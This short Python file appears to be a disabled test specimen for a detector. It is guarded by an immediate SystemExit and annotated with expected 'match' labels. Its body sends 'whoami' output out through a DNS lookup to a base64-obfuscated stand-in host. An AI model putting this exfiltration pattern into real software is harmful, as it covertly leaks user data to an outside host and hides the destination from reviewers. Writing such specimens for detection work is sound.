raise SystemExit("specimen: not to be run")
import base64
import socket
import subprocess

def begin():
    text = subprocess.check_output(["whoami"]).hex()
    socket.gethostbyname(text + base64.b64decode("LnNwZWNpbWVuLmV4YW1wbGUuY29t").decode())  # match: name-lookup-carries-data  # match: hidden-address
